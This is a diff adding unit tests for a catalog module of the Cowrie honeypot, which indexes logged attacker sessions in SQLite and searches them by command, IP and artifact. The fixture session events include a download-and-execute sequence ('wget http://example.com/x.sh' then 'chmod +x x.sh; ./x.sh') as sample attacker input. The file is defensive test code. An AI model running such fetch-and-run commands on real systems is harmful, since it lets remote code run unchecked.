@@ -0,0 +1,170 @@
+from __future__ import annotations
+
+import json
+import os
+import tempfile
+import unittest
+from typing import Any
+
+from twisted.internet import defer
+
+from cowrie.core.catalog import Catalog
+from cowrie.output import catalog
+
+SHASUM = "a" * 64
+
+
+def session_events(session: str, src_ip: str) -> list[dict[str, Any]]:
+    return [
+        {
+            "eventid": "cowrie.session.connect",
+            "session": session,
+            "src_ip": src_ip,
+            "timestamp": "2026-01-01T00:00:00.000000Z",
+        },
+        {
+            "eventid": "cowrie.login.success",
+            "session": session,
+            "username": "root",
+            "timestamp": "2026-01-01T00:00:01.000000Z",
+        },
+        {
+            "eventid": "cowrie.command.input",
+            "session": session,
+            "input": "/usr/bin/wget http://example.com/x.sh",
+            "timestamp": "2026-01-01T00:00:02.000000Z",
+        },
+        {
+            "eventid": "cowrie.session.file_download",
+            "session": session,
+            "url": "http://example.com/x.sh",
+            "outfile": f"var/lib/cowrie/downloads/{SHASUM}",
+            "shasum": SHASUM,
+            "timestamp": "2026-01-01T00:00:03.000000Z",
+        },
+        {
+            "eventid": "cowrie.command.input",
+            "session": session,
+            "input": "chmod +x x.sh; ./x.sh",
+            "timestamp": "2026-01-01T00:00:04.000000Z",
+        },
+        {
+            "eventid": "cowrie.log.closed",
+            "session": session,
+            "ttylog": f"var/lib/cowrie/tty/{session}",
+            "size": 100,
+            "shasum": session * 8,
+            "duration": "5.0",
+            "timestamp": "2026-01-01T00:00:05.000000Z",
+        },
+        {
+            "eventid": "cowrie.session.closed",
+            "session": session,
+            "timestamp": "2026-01-01T00:00:05.000000Z",
+        },
+    ]
+
+
+class CatalogTests(unittest.TestCase):
+    """Tests for cowrie/core/catalog.py"""
+
+    def setUp(self) -> None:
+        self.tmpdir = tempfile.TemporaryDirectory()
+        self.catalog = Catalog(os.path.join(self.tmpdir.name, "catalog.sqlite"))
+        self.logfile = os.path.join(self.tmpdir.name, "cowrie.json")
+
+    def tearDown(self) -> None:
+        self.catalog.close()
+        self.tmpdir.cleanup()
+
+    def append(self, events: list[dict[str, Any]], tail: str = "") -> None:
+        with open(self.logfile, "a") as f:
+            for event in events:
+                f.write(json.dumps(event) + "\n")
+            f.write(tail)
+
+    def test_search(self) -> None:
+        self.assertEqual(self.catalog.add(session_events("s1", "1.2.3.4")), 6)
+        self.catalog.add(session_events("s2", "5.6.7.8"))
+
+        self.assertEqual(
+            [row[0] for row in self.catalog.sessions_by_command("wget")], ["s1", "s2"]
+        )
+        self.assertEqual(self.catalog.sessions_by_command("chmod")[0][1], "1.2.3.4")
+        self.assertEqual(len(self.catalog.sessions_by_input("./x.sh")), 2)
+        self.assertEqual(
+            [row[0] for row in self.catalog.sessions_by_artifact(SHASUM)],
+            ["s1", "s2"],
+        )
+        self.assertEqual(self.catalog.sessions_by_ip("5.6.7.8")[0][0], "s2")
+
+        found = self.catalog.session("s1")
+        self.assertEqual(found["session"][1], "1.2.3.4")
+        self.assertEqual(found["ttylogs"][0][0], "var/lib/cowrie/tty/s1")
+        self.assertEqual(len(found["commands"]), 2)
+        self.assertEqual(found["artifacts"][0][2], "http://example.com/x.sh")
+
+    def test_uses_index(self) -> None:
+        for query, args in (
+            ("SELECT * FROM commands WHERE command = ?", ("wget",)),
+            ("SELECT * FROM artifacts WHERE shasum = ?", (SHASUM,)),
+            ("SELECT * FROM sessions WHERE src_ip = ?", ("1.2.3.4",)),
+        ):
+            plan = self.catalog.db.execute(f"EXPLAIN QUERY PLAN {query}", args)
+            self.assertIn("USING INDEX", " ".join(str(row) for row in plan))
+
+    def test_incremental_index(self) -> None:
+        events = session_events("s1", "1.2.3.4")
+        self.append(events[:3], tail='{"eventid": "cowrie.comm')
+        self.assertEqual(self.catalog.index(self.logfile), 2)
+        self.assertEqual(self.catalog.index(self.logfile), 0)
+
+        # Finish the partly written line and add the rest
+        with open(self.logfile, "a") as f:
+            f.write('and.input", "session": "s1", "input": "id", "timestamp": "t"}\n')
+        self.append(events[3:])
+        self.assertEqual(self.catalog.index(self.logfile), 5)
+        self.assertEqual(len(self.catalog.session("s1")["commands"]), 3)
+
+        # Rotated: a new file at the same path is read from the start
+        os.rename(self.logfile, self.logfile + ".1")
+        self.append(session_events("s2", "5.6.7.8"))
+        self.assertEqual(self.catalog.index(self.logfile), 6)
+        self.assertEqual(len(self.catalog.sessions_by_command("wget")), 2)
+
+    def test_idempotent(self) -> None:
+        self.append(session_events("s1", "1.2.3.4"))
+        self.catalog.index(self.logfile)
+        self.catalog.add(session_events("s1", "1.2.3.4"))
+        self.assertEqual(len(self.catalog.session("s1")["commands"]), 2)
+        self.assertEqual(len(self.catalog.sessions_by_artifact(SHASUM)), 1)
+
+
+class CatalogOutputTests(unittest.TestCase):
+    """Tests for cowrie/output/catalog.py"""
+
+    def setUp(self) -> None:
+        self.tmpdir = tempfile.TemporaryDirectory()
+        self.db = os.path.join(self.tmpdir.name, "catalog.sqlite")
+        os.environ["COWRIE_OUTPUT_CATALOG_DB_FILE"] = self.db
+        self.output = catalog.Output()
+        self.output.deferToThread = defer.maybeDeferred
+
+    def tearDown(self) -> None:
+        del os.environ["COWRIE_OUTPUT_CATALOG_DB_FILE"]
+        self.tmpdir.cleanup()
+
+    def test_batches(self) -> None:
+        for event in session_events("s1", "1.2.3.4"):
+            self.output.write(event)
+        self.assertEqual(len(self.output.pending), 6)
+        self.output.flush()
+        self.assertEqual(self.output.pending, [])
+        self.output.write(session_events("s2", "5.6.7.8")[0])
+        self.output.stop()
+        self.assertFalse(self.output.loop.running)
+
+        result = Catalog(self.db)
+        self.assertEqual(len(result.sessions_by_command("wget")), 1)
+        self.assertEqual(result.sessions_by_ip("5.6.7.8")[0][0], "s2")
+        result.close()